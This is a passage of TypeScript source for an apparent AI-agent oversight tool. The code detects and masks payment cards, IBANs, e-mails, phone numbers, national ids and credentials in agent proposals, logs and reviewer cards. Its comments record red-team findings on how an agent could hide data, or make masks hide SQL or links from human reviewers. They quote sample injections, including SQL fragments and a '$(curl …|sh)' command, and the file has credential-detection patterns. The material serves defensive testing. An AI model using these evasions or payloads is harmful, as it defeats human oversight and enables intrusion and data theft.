/**
 * Detectors of regulated data: card numbers (Luhn, any separator, or a JSON number), IBANs (any case,
 * mod-97 and the country's length), e-mail addresses (values and object keys), phone numbers, and
 * national-id patterns. One scanner both finds (`findRegulatedData`, for content guardrails) and masks
 * (`maskText`/`maskDeep` in masking.ts, for audit, logs, Redis, error messages and paths), so what is
 * found is exactly what is masked. Framework-free; a later refactor moves it to libs/guardrails.
 *
 * Every detector reads the canonical form of the text (canonical.ts: full-width forms, invisible characters, every
 * kind of space and dash, HTML references and spelled-out e-mail addresses read as a person reads them), and a mask
 * replaces the original characters of what it hides; the rest of the text stays as it was (ADR 0035).
 */
import { canonicalForm, Edit, mayHide, MappedText, MARKUP, MAYBE_DIGIT_OR_AT, MAYBE_OBFUSCATED, Reading, splice } from './canonical';
import { countrySpecs } from 'ibantools';
import { decodedPieces, decodedText, forEachToken, MAY_HOLD_ENCODED_TEXT, MIN_BASE64 } from './encoded';

export interface MaskingOptions {
  /** Extra patterns (e.g. national ids), each replaced by `[<name>]`. Use the global flag. */
  nationalIds?: Array<{ name: string; pattern: RegExp }>;
  /**
   * Keys whose values are identifiers or digests: only the checksum-validated detectors (card, IBAN) and
   * e-mail apply there, so a digest that merely looks like a phone number keeps its value.
   */
  keepKeys?: ReadonlySet<string>;
  /**
   * Masks as a reviewer's card shows them, who decides on the value and must tell one from another: an IBAN keeps its
   * check digits (`DE89 [iban …3000]`, not `DE** …`), and an address its domain (`j***@[email at example.com]`). The
   * value's last four characters alone let an attacker's IBAN show as the customer's, and a hidden domain an e-mail change
   * to the attacker's own (red team, 2026-12-07). Not for logs or the audit trail, which keep the shorter forms, but
   * for the snapshot of the card a decision records (`shown`): it is what the reviewer saw, and its digest must match.
   * A domain read from other characters (`ac\u0323me.com`) is not shown: its canonical form would be another domain.
   */
  forReviewers?: boolean;
}

/** Identifier and digest fields of Countersign's own events: masking them would break references. */
export const IDENTIFIER_KEYS: ReadonlySet<string> = new Set([
  'id',
  'eventId',
  'actionId',
  'subject',
  'correlationId',
  'causationId',
  'decisionEventId',
  'digest',
  'shownDigest',
  'contractHash',
  'rootHash',
  'signature',
  // The seal of a policy decision, control fact or outcome (`cf1.<base64url claims>.<signature>`, docs/adr/0039): its
  // claims decode to JSON of ids, a digest and a time (ADR 0045), where a run of the digest's digits is no card.
  'seal',
  'approval',
  'nonce',
  'keyId',
  'offset',
  // W3C trace context (logs, audit entries): hex, where a run of digits is no card, IBAN or national id.
  'traceId',
  'spanId',
  'traceparent',
]);

/**
 * The keys under which a proposal carries what its agent wrote: there every key is the agent's choice, so none is taken
 * for one of Countersign's identifiers (`IDENTIFIER_KEYS`). An agent naming a context field `id` or `subject` had its
 * card number, phone and national ids read only as an identifier's (red team, 2026-12-05).
 */
export const AGENT_CONTENT_KEYS: ReadonlySet<string> = new Set(['parameters', 'context']);

/** No identifier keys: for a value that is all agent content (a proposal's parameters, its inputs). */
export const NO_IDENTIFIER_KEYS: ReadonlySet<string> = new Set();

/**
 * The identifier keys that hold below the key `k`, given those that hold at its level: none under agent content.
 * Identifier reading (`strict`) is for a key's own value (a string, or a list of them), never inherited by an object
 * below it: an object under `id` is not an identifier.
 */
export const keptBelow = (k: string, keep: ReadonlySet<string>): ReadonlySet<string> => (AGENT_CONTENT_KEYS.has(k) ? NO_IDENTIFIER_KEYS : keep);

// Between the groups of a national id: one space, dash, dot, slash or underscore, the same or not (`123 45-6789`).
const ID_SEPARATOR = '[ ./_-]';
// Between an SSN's groups, a run of up to three of them (`123  45  6789`, `123 - 45 - 6789`, `123--45--6789`: red team,
// 2026-12-04), as between a card's groups. Bounded, and no digit in it: the match stays linear.
const SSN_SEPARATOR = `(?:${ID_SEPARATOR}{1,3}| {1,2}[./_-] {1,2})`;
// What names a value as a Social Security number: `SSN`, `social security number` (`no.`, `#`, `num`), written out
// or glued to what follows, then at most a colon, `#`, `=` or dash and a word such as `is` or `number`.
const SSN_LABEL = String.raw`(?<![A-Za-z])(?:ssn|social[ _-]?security(?:[ _-]?(?:number|num|no|nr|#))?)s?\.?[ 	]*(?:[:#=-][ 	]*)?(?:(?:is|was|number|no\.?|#)[ 	]+)?`;
// A date `dd.mm.yy` or `mm/dd/yy` (dots, slashes or dashes): after a two-letter word and a space it is a date in a
// sentence ("On 12/05/26 a refund…", "am 12.05.26 d. h."), not the digits of a national insurance number.
const SHORT_DATE = String.raw`(?:(?:0[1-9]|[12]\d|3[01])[./-](?:0[1-9]|1[0-2])|(?:0[1-9]|1[0-2])[./-](?:0[1-9]|[12]\d|3[01]))[./-]\d\d`;

/**
 * Built-in national-id patterns, each a whole token: glued to no letter or digit. A contract's own patterns
 * (`MaskingOptions.nationalIds`) are applied after these, to the same canonical text; a value both match is named by
 * the built-in pattern.
 * - `us-ssn`: 3-2-4 digits with a run of up to three separators between the groups (`123 45 6789`, `123.45.6789`,
 *   `123/45-6789`, `123  45  6789`, `123 - 45 - 6789`).
 *   Not the tail of a longer run (`1.123.45.6789` is a version, `…6789.1` too) nor of an international phone number
 *   (`+49 151 123 45 6789`). The Social Security Administration never issues area 000, 666 or 9xx, group 00 or serial
 *   0000, so those are other numbers; but area 9xx with an ITIN's group (50–65, 70–88, 90–92, 94–99) is a taxpayer id,
 *   as regulated, and was masked before these rules: it still is.
 * - `uk-nino`: two letters HMRC uses as a prefix, 2-2-2 digits and a letter A–D, in any case, a separator or none
 *   between the groups (`AB 12 34 56 C` as HMRC prints it, `AB-12-34-56-C`, `ab123456c`); not a two-letter word
 *   followed by a short date (`On 12/05/26 a …`).
 * - `us-ssn` also: nine digits right after what names them a Social Security number, with any separators or none,
 *   spaced or glued to the label (`SSN: 123456789`, `SSN123-45-6789`, `social security no. 123 - 45 - 6789`): named as
 *   one, it is masked as one, whatever the SSA would issue. The label stays readable; the digits are masked.
 * Otherwise no separator is a national id only as a NINO: nine bare digits are as often an order or account number.
 */
export const DEFAULT_NATIONAL_IDS = [
  {
    name: 'us-ssn',
    pattern: new RegExp(
      String.raw`(?<![A-Za-z0-9+]|\d[./_-]{1,3}|\+\d[\d ()./-]{0,24}[ ./_-])(?:(?!000|666)[0-8]\d\d${SSN_SEPARATOR}(?!00)\d\d|9\d\d${SSN_SEPARATOR}(?:5\d|6[0-5]|7\d|8[0-8]|9[0-24-9]))${SSN_SEPARATOR}(?!0000)\d{4}(?![A-Za-z0-9]|[./_-]{1,3}\d)`,
      'g',
    ),
  },
  {
    name: 'us-ssn',
    pattern: new RegExp(String.raw`(?<=${SSN_LABEL})(?<!\d)\d{3}[ \t]*[./_-]?[ \t]*\d{2}[ \t]*[./_-]?[ \t]*\d{4}(?![0-9])`, 'gi'),
    // Only text that holds a label is searched: a lookbehind at every position costs the hot path (policy p99).
    gate: /ssn|social[ _-]?sec/i,
  },
  {
    name: 'uk-nino',
    pattern: new RegExp(
      String.raw`(?<![A-Za-z0-9])(?!BG|GB|KN|NK|NT|TN|ZZ)[A-CEGHJ-PR-TW-Z][A-CEGHJ-NPR-TW-Z](?! ${SHORT_DATE})${ID_SEPARATOR}?\d\d${ID_SEPARATOR}?\d\d${ID_SEPARATOR}?\d\d${ID_SEPARATOR}?[A-D](?![A-Za-z0-9])`,
      'gi',
    ),
  },
];

/** Deeper than this, a value is neither scanned nor kept: masking replaces it, detection reports `too-deep`. */
export const MAX_SCAN_DEPTH = 200;

/** True when a string of digits passes the Luhn check. */
export function luhnValid(digits: string): boolean {
  let sum = 0;
  for (let i = 0; i < digits.length; i++) {
    let d = digits.charCodeAt(digits.length - 1 - i) - 48;
    if (i % 2 === 1) {
      d *= 2;
      if (d > 9) d -= 9;
    }
    sum += d;
  }
  return digits.length > 0 && sum % 10 === 0;
}

/** True when an IBAN (any case, spaces allowed) passes the ISO 13616 mod-97 check. */
export function ibanValid(iban: string): boolean {
  const s = iban.replace(/\s+/g, '').toUpperCase();
  if (!/^[A-Z]{2}\d{2}[A-Z0-9]{11,30}$/.test(s)) return false;
  // The country's account-number format (ISO 13616): hex of a UUID or a digest that happens to pass mod 97 is not a
  // German IBAN (18 digits; a property test found `…8bde-0012-1000-919f-3e35…`), nor a random token a Georgian one (two
  // letters or digits, then 16 digits; a clean clone's property test found `gE72V0wpRYNdAKO9Oa0h4Q`).
  if (!BBAN_FORMATS.get(s.slice(0, 2))?.test(s.slice(4))) return false;
  let rest = 0;
  for (let i = 0; i < s.length; i++) {
    const c = s.charCodeAt((i + 4) % s.length); // the first four characters move to the end
    rest = c >= 65 ? (rest * 100 + c - 55) % 97 : (rest * 10 + c - 48) % 97;
  }
  return rest === 1;
}

/**
 * A digit string a payment card network issues: Visa 13 digits start with 4, 14 (Diners) and 15 (Amex)
 * with 3, 16–19 with 2–6 (Mastercard, Visa, Discover, JCB, UnionPay, Maestro); and the Luhn check.
 * The prefix rule keeps millisecond timestamps and counters (they start with 1) from reading as cards.
 */
export function cardNumberValid(digits: string): boolean {
  const n = digits.length;
  const first = digits.charCodeAt(0) - 48;
  const issued = n === 13 ? first === 4 : n === 14 || n === 15 ? first === 3 : n >= 16 && n <= 19 && first >= 2 && first <= 6;
  return issued && luhnValid(digits);
}

/** The masked form of a card number given as a JSON number, or undefined when it is not one. */
export function maskCardNumberValue(n: number): string | undefined {
  if (!Number.isInteger(n) || n < 1e12 || n >= 1e19) return undefined;
  const digits = String(n);
  return cardNumberValid(digits) ? `[card …${digits.slice(-4)}]` : undefined;
}

/**
 * The masked form of a JSON number whose digits are regulated data, or undefined when they are not: a card number
 * (`maskCardNumberValue`), and whatever the detectors find in its digits, its sign aside (red team, 2026-12-07: a
 * negative card number, `-4938570839347359`, and a contract's national id written as a number, `47110815123`, went
 * out unmasked and ran autonomously). A number of fewer than 9 digits (an amount, a count, a port) is read as it is.
 */
export function maskNumberValue(n: number, options: MaskingOptions = {}, strict = false, found?: OnFound): string | undefined {
  const card = maskCardNumberValue(n);
  if (card !== undefined) {
    found?.('card');
    return card;
  }
  if (!Number.isInteger(n) || Math.abs(n) < 1e8) return undefined;
  const digits = BigInt(Math.abs(n)).toString();
  const masked = scanText(digits, options, strict, found);
  return masked === digits ? undefined : `${n < 0 ? '-' : ''}${masked}`;
}

// The countries whose IBANs are read: the IBAN registry's (ISO 13616), with Burundi, Djibouti and the Falklands, which
// joined it in 2023 (ibantools still flags them experimental), and the territories with a code of their own and France's
// (or, for Åland, Finland's) account numbers. Each one's length and BBAN format come from ibantools' table, one source
// for both: Germany 22 characters, `^[0-9]{18}$` after the check digits.
const IBAN_COUNTRIES = (
  'AD AE AL AT AZ BA BE BG BH BI BR BY CH CR CY CZ DE DJ DK DO EE EG ES FI FK FO FR GB GE GI GL GR GT HR HU IE IL IQ IS ' +
  'IT JO KW KZ LB LC LI LT LU LV LY MC MD ME MK MN MR MT MU NI NL NO OM PK PL PS PT QA RO RS RU SA SC SD SE SI SK SM SO ' +
  'ST SV TL TN TR UA VA VG XK YE AX GF GP MF MQ NC PF PM RE TF WF YT'
).split(' ');
// An IBAN must have exactly its country's length.
const IBAN_LENGTHS: Record<string, number> = Object.fromEntries(IBAN_COUNTRIES.map((country) => [country, countrySpecs[country].chars!]));
// And its country's account-number format.
const BBAN_FORMATS = new Map(IBAN_COUNTRIES.map((country) => [country, new RegExp(countrySpecs[country].bban_regexp!)]));

/** What any built-in pattern needs somewhere in the canonical form of a text (`MAYBE_DIGIT_OR_AT` before it). */
const HAS_DIGIT_OR_AT = /[\d@]/;
/** What the card, IBAN, national-id and phone patterns each need. */
const HAS_DIGIT = /\d/;
// A character outside printable ASCII, a digit, '@', '&', or the word "at" between two others (as in an e-mail address
// spelled out): a text with none is its own canonical form and has nothing to find. Nearly as cheap as
// `HAS_DIGIT_OR_AT`, which it replaces as the first test (the detectors run on every string of every decision).
const MAYBE_SOMETHING_TO_FIND = /[^\x20-\x25\x27-\x2f\x3a-\x3f\x41-\x7e]|[^a-zA-Z][aA][tT][^a-zA-Z]/;
// Starts only where a local part starts (the lookbehind), so the scan stays linear on long text. A local part takes
// the characters RFC 5322 allows unquoted (`o'brien`, `a!b`, `x{y}`) but those that also delimit URLs and queries
// (`&`, `/`, `=`, `?`: in `?to=jane@example.com` the address starts after '='), or is quoted (`"jane roe"`); a
// domain is names, or an address literal (`[192.0.2.1]`, `[IPv6:2001:db8::1]`).
// The '@' may have up to two spaces either side, or be percent-encoded (`jane.roe @ example.com`, `jane%40example.com`);
// the dots of the domain may have one or two spaces on either side or both (`zelda @ example . org`: red team,
// 2026-12-04; `jane.doe@example .com`, `jane.doe@ example. com`: red team, 2026-12-07), where `spacedDomainPlausible`
// wants a letter in every label ("meet @ 5 . ok" is no address). A domain is no local part: one followed by an '@' is
// not taken (`{@ jane.doe@example.org` read `{@ jane.doe` as an address, and the real one behind it was not masked).
// Nor is a spaced domain that runs into a mask (`0@A. GB** [iban …5432]`: the IBAN's mask made an address of its text).
const EMAIL =
  /(?:"[^"\n]{1,64}"|(?<![\p{L}\p{N}._%+\-'!#$*^`{|}~])[\p{L}\p{N}._%+\-'!#$*^`{|}~]+)(?: {0,2}@ {0,2}|%40)(?:(?:[\p{L}\p{N}-]{1,63}\.){1,8}\p{L}{2,24}|(?:[\p{L}\p{N}-]{1,63}(?: {1,2}\. {0,2}|\. {1,2})){1,8}\p{L}{2,24}(?![\p{L}\p{N}*[])|\[(?:IPv6:)?[0-9A-Fa-f:.]{2,45}\])(?![\p{L}\p{N}.-]{0,253} {0,2}@)/gu;
// An address spelled out one character at a time, each followed by one space (`z e l d a @ example . org`,
// `z e l d a @ e x a m p l e . o r g`: red team, 2026-12-04): a local part of single characters, then '@' and a domain
// of single characters or as EMAIL reads it. Every run is bounded (an address has at most 254 characters), so a long
// text of single characters costs linear time; `spacedEmail` checks what it finds without its spaces.
const LOCAL_CHAR = "[\\p{L}\\p{N}._%+\\-'!#$*^`{|}~]";
const CHAR_SPACED_EMAIL = new RegExp(
  String.raw`(?<!\S)(?:${LOCAL_CHAR} ){2,64}@ (?:(?:[\p{L}\p{N}.-] ){3,252}[\p{L}\p{N}](?!\S)|(?:[\p{L}\p{N}-]{1,63}(?:\.| {1,2}\. {1,2})){1,8}\p{L}{2,24}(?![\p{L}\p{N}]))`,
  'gu',
);
// What CHAR_SPACED_EMAIL finds must be an address once its spaces are gone.
const COMPACT_EMAIL = /^[\p{L}\p{N}._%+\-'!#$*^`{|}~]{1,64}@(?:[\p{L}\p{N}-]{1,63}\.){1,8}\p{L}{2,24}$/u;
const SPACED_DOT = / \.|\. /g;
/** An address's mask: its first character, then `***@[email]` (`forReviewers`: with its domain, when read as written). */
function emailMask(address: string, options: MaskingOptions, asWritten: boolean): string {
  const domain = options.forReviewers && asWritten ? domainOf(address) : undefined;
  return domain ? `${address[0]}***@[email at ${domain}]` : `${address[0]}***@[email]`;
}

/** A quoted local part whose mask hides nothing but a name: words of letters, digits and `._+`, one space apart. */
const PLAIN_QUOTED_LOCAL = /^"[\p{L}\p{N}._+]{1,64}(?: [\p{L}\p{N}._+]{1,64}){0,8}"/u;
/**
 * An unquoted local part that could end a string or a comment, or start an expansion, in the code around it: two
 * apostrophes, an apostrophe with `--`, or a character no address people use holds (`` ` ``, `$`, `{`, `}`, `|`, `^`,
 * `~`, `!`, `#`, `*`, `%`). `x'OR'a'LIKE'%'--@acme.com` closed a SQL string and was masked whole (red team of this
 * change, 2026-12-07). `o'brien` is an address, and is masked.
 */
const CODE_IN_LOCAL = /'[^@]*'|'[^@]*--|--[^@]*'|[`${}|^~!#*%]/;
/** An address's domain as a reviewer reads it (its spaces gone, in lower case), or undefined for an address literal. */
function domainOf(address: string): string | undefined {
  const at = address.lastIndexOf('@') >= 0 ? address.lastIndexOf('@') + 1 : address.toLowerCase().lastIndexOf('%40') + 3;
  const domain = address.slice(at).replace(/ /g, '').toLowerCase();
  return /^[\p{L}\p{N}.-]{1,253}$/u.test(domain) ? domain : undefined;
}

/**
 * Whether an address EMAIL found may be masked whole: a mask hides what it covers from the reviewer, so it covers only
 * what can be an address people use. A quoted local part holding anything else (a closing and an opening SQL comment
 * around `DELETE FROM customers;`, `"https://evil.example/verify?t=9"@acme.com`) is found (the text goes to review) and
 * shown as written, an address inside it masked: masked whole, it hid SQL and a link from the reviewer who approved them
 * (red team, 2026-12-07). So does an unquoted one that could end a string or a comment (`CODE_IN_LOCAL`); any other is
 * masked, whatever its length (an address padded in front would otherwise show whole).
 */
function maskable(address: string): boolean {
  if (address[0] === '"') return PLAIN_QUOTED_LOCAL.test(address);
  const at = address.search(/ {0,2}@|%40/);
  return !CODE_IN_LOCAL.test(at < 0 ? address : address.slice(0, at));
}
/**
 * Whether the domain of an address whose dots are spaced is one: a letter in every label ("meet @ 5 . ok" is prose),
 * and a top-level domain in one case ("I am @ home . Ok" is two sentences).
 */
function spacedDomainPlausible(address: string): boolean {
  const at = address.lastIndexOf('@');
  // Searched from the '@' on, without a copy of the domain: most addresses found have no spaced dot.
  SPACED_DOT.lastIndex = at;
  if (!SPACED_DOT.test(address)) return true;
  const domain = address.slice(at + 1).replace(/ /g, '');
  const labels = domain.split('.');
  const tld = labels[labels.length - 1];
  return labels.every((label) => /\p{L}/u.test(label)) && (tld === tld.toLowerCase() || tld === tld.toUpperCase());
}
// Between the groups of a card number: a run of up to three characters that are neither ASCII letters nor digits, the
// same or not: `4111__1111`, `(4111)(1111)`, `[4111] [1111]`, `4111 -- 1111` (red team, 2026-12-04), `4111 • 1111`,
// `4111;1111`, `4111='1111` (red team, 2026-12-07: a list of marks let every mark not on it through, `•`, `·`, `;`,
// `=`, `!`, `'`, …: any character that is no letter or digit separates now); or one with up to two spaces either side
// (`4111  -  1111`), as before. A run is bounded and holds no digit, so matching stays linear.
const SEPARATOR = '[^A-Za-z0-9]';
const S = String.raw`(?:${SEPARATOR}{1,3}| {1,2}${SEPARATOR} {1,2})`;
const SEPARATOR_CHARS = new RegExp(SEPARATOR, 'g');
// A card number is one run of 13–19 digits, or groups (4-4-4-4, 4-4-4-4-3, 4-6-5, 4-6-4) split by
// spaces, dashes or dots; never glued to digits (nor, in identifiers, to letters). The last group is optional, see maskCards.
// Or 13–19 digits one by one, or two by two, each followed by the same separator run (`4 1 1 1 …`, `4-1-1-1-…`,
// `(4)(1)(1)…`, `41 11 11 11 …`: red team, 2026-12-07).
// Or any other grouping into two or three runs of at least three digits (8-8, 6-10, 7-9, 4-4-8, 10-6, Amex as 8-7; red
// team, 2026-12-02), standing on their own: space or punctuation that ends a word on either side, never inside a longer
// token (a UUID's groups, a date, a version), where runs of digits side by side are common and mean no card. maskCards
// looks for 13–19 digits with a card network's first digit and a valid Luhn check in consecutive groups of it.
// In free text a number glued to letters is still read (`PAN4111111111111111`, `4111111111111111x`: red team,
// 2026-12-02): an agent could glue a letter to any card to hide it, but not inside a UUID (maskCards skips those: its
// groups pass Luhn one time in ten). Identifier and digest values (`strict`) are hex, where digits meet letters all
// the time, so there a number stands on its own.
const cardPattern = (edge: string) =>
  new RegExp(
    String.raw`(?:(?<!${edge})(?:\d{4}(?:\d{9,15}|${S}\d{4}${S}\d{4}${S}\d{1,4}(?:${S}\d{1,3})?|${S}\d{6}${S}\d{4,5})|\d(${SEPARATOR}{1,3})(?:\d\1){11,17}\d|\d\d(${SEPARATOR}{1,3})(?:\d\d\2){5,8}\d\d?)(?!${edge})|(?<![^\s"'(\[{<:=,;])\d{3,16}(?:${S}\d{3,16}){1,2}(?![^\s"')\]}>.,;:!?]))`,
    'g',
  );
const CARD = cardPattern(String.raw`\d`);
const CARD_IN_IDENTIFIER = cardPattern('[A-Za-z0-9]');
const DIGIT_RUN = /\d+/g;
const UUID_SOURCE = String.raw`(?<![0-9A-Za-z])[0-9A-Fa-f]{8}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{12}(?![0-9A-Za-z])`;
const UUID = new RegExp(UUID_SOURCE);
const UUIDS = new RegExp(UUID_SOURCE, 'g');
const CARD_TAIL = new RegExp(String.raw`${S}\d{1,3}$`);
// Where an IBAN may start; maskIbans reads its country's length from there.
// Its four first characters may be spaced or split too (`D E 8 9 …`, `DE/89/…`).
// In free text it may be glued to letters on either side (`IBANDE89…`, `…3000x`), as a card may; in identifier and digest
// values (`strict`) it stands on its own.
const IBAN_START = /(?<!\d)[A-Za-z][^A-Za-z0-9]?[A-Za-z][^A-Za-z0-9]?\d[^A-Za-z0-9]?\d/g;
const IBAN_START_IN_IDENTIFIER = /(?<![A-Za-z0-9])[A-Za-z][^A-Za-z0-9]?[A-Za-z][^A-Za-z0-9]?\d[^A-Za-z0-9]?\d/g;
// International numbers (`+…` or `00…`, any of space, dash, dot, slash or parentheses between the digits, one space
// after the `+` too, `+ 49 170 1234567` (red team, 2026-12-07), but not in a sum, `5 + 10 20 30 40 50`), national
// ones with their trunk 0 (`0170 1234567`, `(0170) 123 45 67`, `030/1234567`), North American ones with dots
// (`202.555.0143`), or numbers in three groups split by spaces or dashes; the replacer also wants at least nine digits.
// The digits after `+` or `00` are bounded, so that a long run of them costs linear time.
const INTERNATIONAL_DIGITS = String.raw`[\d ()./-]{7,40}\d`;
// A `+` starts a number wherever it stands (`Tel.+49…`, `WhatsApp/+49…`, `x+49…`, `m-+49…`) but after a digit, where it
// is part of something else (`1+49…` a sum or a version's build, `…:00+01:00` a time zone); unless that digit ends an
// international number (`+49…+49…`, two run together: both are masked). Nor after a phone mask, which stands for a
// number that ended in a digit: masking masked text changes nothing.
const PLUS = String.raw`\+(?<!(?:\d(?<!(?:\+\d|00[1-9])[\d ()./-]{6,39}\d)|\[phone …\d\d\])\+)`;
// Any other number starts a token, or follows a word and a dot, an abbreviation (`Tel.030/1234567`, `Mob.0049 151
// 23456789`; `Tel:030…` starts a token anyway): `00` and a trunk `0` are no mark as `+` is, and a bare run of digits is
// an id. Not after a dash, a slash, or a digit and a dot: `order-0170-1234567` is an order id, `orders/0170 1234567` a
// path, and so are the groups of UUIDs, versions and addresses. One lookbehind, not an alternation of a negative and a
// positive one, which V8 runs ten times slower.
const PHONE_START = String.raw`(?<![\w+/-]|(?<![A-Za-z])\.)`;
const PHONE = new RegExp(
  String.raw`(?:${PLUS}(?:(?<!\d \+) )?\d${INTERNATIONAL_DIGITS}|${PHONE_START}(?:00[1-9]${INTERNATIONAL_DIGITS}|\(?0\d{2,5}\)?(?: ?[ /-] ?| )\d{2,4}(?:[ -]?\d{2,5}){0,3}|\d{3}\.\d{3}\.\d{4}|\(?\d{2,5}\)?[ -]\d{3,4}[ -]\d{3,5}))(?![\w-]|\.\d)`,
  'g',
);

/** Called once per regulated value found, with its kind. */
export type OnFound = (kind: string) => void;

/**
 * Masks the regulated data in one string and reports each kind found. `strict` (identifier and digest
 * values) applies only e-mail and the checksum-validated detectors. Idempotent: masked text has no finding.
 * The detectors read the canonical form of the text; the masks replace the original characters of what they hide,
 * and a text with nothing to mask comes back as it was, byte for byte.
 */
export function scanText(text: string, options: MaskingOptions = {}, strict = false, found?: OnFound): string {
  return scanLayer(text, options, strict, found, 0);
}

/**
 * Credentials: Countersign's own bearer tokens (`cs_<principal>_<24 random bytes, base64url>`, libs/platform/nest
 * tokens-file.ts) and the common shapes of others' (API keys of payment, cloud and code hosts, JSON Web Tokens, private
 * keys, `password=…`). A secret pasted into a reason or a parameter is masked like regulated data, and found as `secret`
 * (red team, 2026-12-04: an agent's token in a kill switch's reason, and `sk_live_…`, `AKIA…`, a JWT in a reply, reached
 * the audit trail as they were). Read in every layer (base64, hex: `maskEncoded`), without the invisible characters
 * that split one, and inside percent-encoding.
 */
const SECRET = new RegExp(
  [
    // Countersign's own: the random part has 32 characters; what is glued to either end goes with it.
    'cs_[A-Za-z0-9-]{1,64}_[A-Za-z0-9_-]{32,}',
    // Stripe-style keys, AWS access key ids, GitHub tokens, Slack tokens, Google API keys.
    '\\b(?:sk|rk|pk)_(?:live|test)_[A-Za-z0-9]{16,}',
    '\\b(?:AKIA|ASIA)[0-9A-Z]{16}\\b',
    '\\bgh[pousr]_[A-Za-z0-9]{30,}',
    '\\bgithub_pat_[A-Za-z0-9_]{30,}',
    '\\bxox[abposr]-[A-Za-z0-9-]{10,}',
    '\\bAIza[0-9A-Za-z_-]{35}',
    // A JSON Web Token: a JSON header and payload (base64url of `{"`) and a signature.
    '\\beyJ[A-Za-z0-9_-]{5,}\\.eyJ[A-Za-z0-9_-]{5,}\\.[A-Za-z0-9_-]{10,}',
    // A private key: its BEGIN line, its headers, its base64 body in lines of 64 (the last shorter), its END line. Only
    // that: a mask that ran to the END line or the end of the text hid whatever an agent wrote after a bare BEGIN line
    // (red team, 2026-12-04: `DROP TABLE customers` on the card as `[secret]`), and base64's letters make words.
    // Red team, 2026-12-07: an OpenSSH key (lines of 70), a PEM key on one line and a PGP key block went out: lines of 40
    // to 76 now, one line of any length before the END line, and PGP's blocks.
    '-----BEGIN [A-Z ]*PRIVATE KEY(?: BLOCK)?-----(?:(?:\\s|\\\\n)*(?:Proc-Type|DEK-Info|Version|Comment): [^\\n]{1,128})*' +
      '(?:(?:\\s|\\\\n)+[A-Za-z0-9+/]{1,8192}={0,2}(?=(?:\\s|\\\\n)+-----END)|(?:(?:\\s|\\\\n)+[A-Za-z0-9+/]{40,76})+(?:(?:\\s|\\\\n)+[A-Za-z0-9+/]{1,76}={0,2})?(?:(?:\\s|\\\\n)+=[A-Za-z0-9+/]{4})?)?' +
      '(?:(?:\\s|\\\\n)+-----END [A-Z ]*PRIVATE KEY(?: BLOCK)?-----)?',
    // An HTTP credential given as a header's value (`Bearer …`, `Basic …`): the token after the scheme, at least 12
    // characters with a digit (red team, 2026-12-07: both in a reply and in a review's reason, as sent). The scheme is
    // kept in the text (`SCHEME`); no lookbehind, which would make the whole pattern try every position.
    '\\b(?:Bearer|Basic)\\s{1,8}(?=[A-Za-z._~+/-]*[0-9])[A-Za-z0-9._~+/-]{12,}=*',
    // A value given for a password, a secret, a token or an API key: the value goes, as far as a credential's characters
    // go. Not through brackets, pipes, backquotes or `$(`: `(secret=x)OR(1=1)` and `--api_key=x$(curl …|sh)` had masked
    // the code after them, so the card hid what would run (red team, 2026-12-04). Nor into a comment, which turns what
    // follows it into nothing (`/*`, `--`, `#`, and `*`), nor through a percent-escape (`maskSecrets` reads those
    // decoded): `api_key=k7Hq2/**/OR/**/1=1` showed as `[secret]` on the card of a live SQL update (red team,
    // 2026-12-06). A quoted value goes to its closing quote, if it holds no line break, `$`, backquote or backslash.
    // (`=` and maybe spaces, or `:` with the value right after it: "your password: reset it here" is prose.)
    // Red team, 2026-12-07: the name after `_` (`aws_secret_access_key=…`), `token=` and `passphrase=`, and a JSON key's
    // closing quote before its colon (`{"password": "…"}`) went out as sent.
    // Handed over in prose (red team, 2026-12-07: "your password has been set to Hunter22!" reached the audit trail as
    // written): the value after words that only lead to it, with a digit or a symbol in it, as the contract's
    // `outbound-discloses-secrets` reads it; and a card's security code, which no one may keep (PCI DSS).
    '\\b(?:password|passwd|passphrase|pwd|pw|passcode|pin(?:[- ]?(?:code|number))?)(?: (?:has|have|had|been|was|is|are|will|would|be|now|just|set|reset|changed|updated|to|as)){1,6} ["\'\u201c]?(?=[^\\s<"\'\u201d]*[0-9!@#$%^&*_+=?])[^\\s<.,;"\'\u201d]{4,}',
    '\\b(?:cvv2?|cvc2?|card security code|card verification (?:code|value))(?: is|:|=| -)? ?\\d{3,4}\\b',
    '(?:\\b|_)(?:password|passwd|passphrase|pwd|secret|secret[_-]?access[_-]?key|api[_-]?key|access[_-]?token|auth[_-]?token|refresh[_-]?token|token|client[_-]?secret)(?:\\s*=\\s*|:(?=[^\\s])|["\']\\s*:\\s*(?=["\']))' +
      '(?:\'[^\'\\n$`\\\\]{1,256}\'|"[^"\\n$`\\\\]{1,256}"|(?:[^\\s,;&"\'<>()\\[\\]{}|`$\\\\*#%/-]|\\$(?![({])|\\/(?!\\*)|-(?!-))+)',
  ].join('|'),
  'gi',
);
/** The scheme before an HTTP credential (`Bearer `), kept in front of its mask. */
const SCHEME = /^(?:Bearer|Basic)\s{1,8}/i;
const MAYBE_SECRET =
  /cs_|_live_|_test_|AKIA|ASIA|gh[pousr]_|github_pat_|xox|AIza|eyJ|PRIVATE KEY|pass|pwd|pw|pin|cvv|cvc|card (?:security|verification)|secret|key|token|bearer|basic/i;
const INVISIBLE = /\p{Cf}/u;
const INVISIBLES = /\p{Cf}/gu;
/**
 * A run of the characters of a URL's token, with at least one percent-escape in it. Not the sub-delimiters (`!$'()*,;&`):
 * masked whole, a run through them hid the code around an encoded secret (`a='x';DELETE FROM users;--%20password%3Dx`
 * showed as `[secret]` from `a=` on; red team, 2026-12-06).
 */
const PERCENT_RUN = /(?:[A-Za-z0-9._~+=:@/?-]|%[0-9A-Fa-f]{2})*%[0-9A-Fa-f]{2}(?:[A-Za-z0-9._~+=:@/?-]|%[0-9A-Fa-f]{2})*/g;

function maskSecrets(text: string, found: OnFound | undefined): string {
  if (!MAYBE_SECRET.test(text) && !text.includes('%')) return text;
  const mask = (t: string) =>
    t.replace(SECRET, (match) => {
      found?.('secret');
      return `${SCHEME.exec(match)?.[0] ?? ''}[secret]`;
    });
  // Percent-encoded (`cs%5Fagent%5F…`, `password=p%40ss`): each run read decoded, and masked whole when it holds one.
  // First: a value's mask stops at a percent-escape, and would leave the rest of an encoded password behind.
  let out = text.includes('%')
    ? text.replace(PERCENT_RUN, (run) => {
        let decoded: string;
        try {
          decoded = decodeURIComponent(run);
        } catch {
          return run;
        }
        const masked = mask(decoded);
        return masked === decoded ? run : '[secret]';
      })
    : text;
  if (MAYBE_SECRET.test(out)) out = mask(out);
  // Split by invisible characters (`cs_ag\u200bent_…`): read without them, and kept without them where one was found.
  if (INVISIBLE.test(out)) {
